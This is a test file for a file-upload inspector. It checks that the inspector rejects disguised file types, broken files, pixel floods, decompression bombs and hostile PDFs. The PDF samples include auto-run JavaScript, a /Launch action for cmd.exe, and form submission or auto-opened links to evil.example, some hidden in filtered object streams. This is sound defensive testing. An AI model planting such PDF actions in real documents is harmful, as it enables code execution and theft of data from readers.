import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { inspectFile } from './inspect-file.js';
import { barePdf, objectStream, pngClaiming, samples, streamObject } from './upload-samples.js';

const rules = { maxBytes: 10 * 1024 * 1024, accept: ['pdf', 'jpeg', 'png'] as const };
let folder: string;

beforeAll(async () => (folder = await mkdtemp(join(tmpdir(), 'gangway-spec-'))));
afterAll(() => rm(folder, { recursive: true, force: true }));

/** What is found: the type, or the reason it is not taken. */
async function finding(bytes: Buffer, name = 'file.bin', accept: readonly ('pdf' | 'jpeg' | 'png')[] = rules.accept) {
  const temporaryPath = join(folder, name);
  await writeFile(temporaryPath, bytes);
  return inspectFile({ originalName: name, sizeInBytes: bytes.length, temporaryPath, sha256: '' }, { ...rules, accept });
}

async function verdict(bytes: Buffer, name?: string): Promise<string> {
  const found = await finding(bytes, name);
  return 'reason' in found ? found.reason : found.type;
}

const javaScript = '<< /S /JavaScript /JS (app.alert(1)) >>';

const contents: [title: string, make: () => Promise<Buffer> | Buffer, verdict: string][] = [
  ['a PNG', samples.png, 'png'],
  ['a JPEG', samples.jpegWithPlace, 'jpeg'],
  ['a PDF', () => samples.pdf(), 'pdf'],
  ['nothing', () => Buffer.alloc(0), 'empty'],
  ['HTML', samples.html, 'wrong-type'],
  ['SVG', samples.svg, 'wrong-type'],
  ['GIF', samples.gif, 'wrong-type'],
  ['WebP', samples.webp, 'wrong-type'],
  ['a ZIP', samples.zip, 'wrong-type'],
  ['a Word document', samples.docx, 'wrong-type'],
  ['a program', samples.program, 'wrong-type'],
  ['a shell script', samples.script, 'wrong-type'],
  ['HTML before a PDF', async () => Buffer.concat([await samples.html(), await samples.pdf()]), 'wrong-type'],
  ['a PNG cut in half', async () => half(await samples.png()), 'broken'],
  ['a JPEG cut in half', async () => half(await samples.jpegWithPlace()), 'broken'],
  ['a PDF cut in half', async () => half(await samples.pdf()), 'broken'],
  ['a PNG header and rubbish', async () => Buffer.concat([(await samples.png()).subarray(0, 33), Buffer.alloc(500, 7)]), 'broken'],
  ['a PDF header and rubbish', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(900, 'x'), Buffer.from('%%EOF')]), 'broken'],
  ['a PDF that is also a ZIP', async () => Buffer.concat([await samples.pdf(), await samples.zip()]), 'broken'],
  ['a flood of pixels', () => pngClaiming(30_000, 30_000), 'too-large'],
];

describe.each(['pdf', 'png', 'jpg', 'html'])('whatever its name says: .%s', (extension) => {
  test.each(contents)('%s', async (_title, make, expected) => {
    expect(await verdict(await make(), `file.${extension}`)).toBe(expected);
  });
});

const unwanted: [title: string, make: () => Promise<Buffer> | Buffer, verdict: string][] = [
  ['a PDF with a password', () => samples.pdf({ userPassword: 'secret' }), 'password-protected'],
  ['a PDF that is encrypted and opens without a password', () => samples.pdf({ ownerPassword: 'secret' }), 'password-protected'],
  ['a script that runs on opening', () => barePdf({ catalog: `/OpenAction ${javaScript}` }), 'active-content'],
  ['a script under a name', () => barePdf({ catalog: '/Names << /JavaScript 10 0 R >>', objects: ['<< >>'] }), 'active-content'],
  ['a script whose name is written with escapes', () => barePdf({ objects: ['<< /S /J#61va#53cript /#4aS (x) >>'] }), 'active-content'],
  ['a script on a page', () => barePdf({ page: '/AA << /O 10 0 R >>', objects: ['<< /S /URI >>'] }), 'active-content'],
  ['a script packed in an object stream', () => barePdf({ objects: [objectStream({ 20: javaScript })] }), 'active-content'],
  ['a page action packed in an object stream', () => barePdf({ objects: [objectStream({ 20: '<< /AA 21 0 R >>' })] }), 'active-content'],
  ['a script in an object stream that does not say so', () => barePdf({ objects: [streamObject(javaScript)] }), 'active-content'],
  ['an object stream behind another filter', () => barePdf({ objects: [objectStream({ 20: javaScript }, '/Filter /ASCIIHexDecode')] }), 'active-content'],
  ['an object stream behind two filters', () => barePdf({ objects: [objectStream({ 20: javaScript }, '/Filter [/FlateDecode /ASCIIHexDecode]')] }), 'active-content'],
  ['an object stream with a predictor', () => barePdf({ objects: [objectStream({ 20: '<< >>' }, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')] }), 'active-content'],
  ['an object stream whose dictionary is cut by a comment', () => barePdf({ objects: [objectStream({ 20: '<< >>' }, '%endobj\n/Filter /ASCIIHexDecode')] }), 'active-content'],
  ['a program to launch', () => barePdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }), 'active-content'],
  ['a file inside', () => barePdf({ objects: ['<< /Type /EmbeddedFile >>'] }), 'active-content'],
  ['a form that sends what was typed', () => barePdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }), 'active-content'],
  ['an XFA form', () => barePdf({ catalog: '/AcroForm << /XFA 10 0 R >>', objects: [streamObject('<xdp/>')] }), 'active-content'],
  ['a web address opened by itself', () => barePdf({ catalog: '/OpenAction 10 0 R', objects: ['<< /S /URI /URI (https://evil.example) >>'] }), 'active-content'],
  ['an action on opening that is nowhere to be found', () => barePdf({ catalog: '/OpenAction 77 0 R' }), 'active-content'],
];

test.each(unwanted)('refuses %s', async (_title, make, expected) => {
  expect(await verdict(await make(), 'contract.pdf')).toBe(expected);
});

const harmless: [title: string, make: () => Buffer][] = [
  ['a place to open at', () => barePdf({ catalog: '/OpenAction [3 0 R /Fit]' })],
  ['a place to open at, by reference', () => barePdf({ catalog: '/OpenAction 10 0 R', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'] })],
  ['a place to open at, packed away', () => barePdf({ catalog: '/OpenAction 21 0 R', objects: [objectStream({ 20: '<< /S /URI >>', 21: '<< /S /GoTo /D (x) >>' })] })],
  ['a link to a web page', () => barePdf({ objects: ['<< /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>'] })],
  ['compressed bytes that spell short names', () => barePdf({ objects: [streamObject('q /JS ( /AA Q', { filter: '' })] })],
];

test.each(harmless)('takes a PDF with %s', async (_title, make) => {
  expect(await verdict(make(), 'contract.pdf')).toBe('pdf');
});

test('a stream that inflates without end is cut off in time and memory', async () => {
  const bomb = barePdf({ objects: Array.from({ length: 12 }, () => streamObject(Buffer.alloc(60 * 1024 * 1024))) });
  expect(await verdict(bomb)).toBe('broken');
});

test('a page of any size is fitted into a small picture', async () => {
  const page = '/MediaBox [0 0 14000000 14000000]';
  expect(await verdict(barePdf({ page }))).toBe('pdf');
});

test('a photo is turned upright and loses its place, its camera and whatever was hung on to it', async () => {
  const photo = Buffer.concat([await samples.jpegWithPlace(), await samples.html()]);
  expect((await sharp(photo).metadata()).exif?.toString('latin1')).toContain('PhoneMaker');
  const found = await finding(photo, 'photo.jpg');
  if ('reason' in found) throw new Error(found.message);
  const kept = await readFile(found.temporaryPath);
  const { exif, width, height } = await sharp(kept).metadata();
  expect({ exif, width, height }).toEqual({ exif: undefined, width: 20, height: 60 });
  expect(kept.includes('PhoneMaker') || kept.includes('<script>')).toBe(false);
  expect(kept.length).toBe(found.sizeInBytes);
});

test('what this form does not accept is named in the words people use', async () => {
  expect(await finding(await samples.pdf(), 'a.pdf', ['jpeg', 'png'])).toEqual({ reason: 'wrong-type', message: 'The selected file must be a JPG or PNG' });
  expect(await finding(Buffer.alloc(0))).toMatchObject({ message: 'The selected file is empty' });
  expect(await finding(await samples.pdf({ userPassword: 'x' }))).toMatchObject({ message: 'The selected file is password protected' });
});

function half(bytes: Buffer): Buffer {
  return bytes.subarray(0, Math.floor(bytes.length / 2));
}
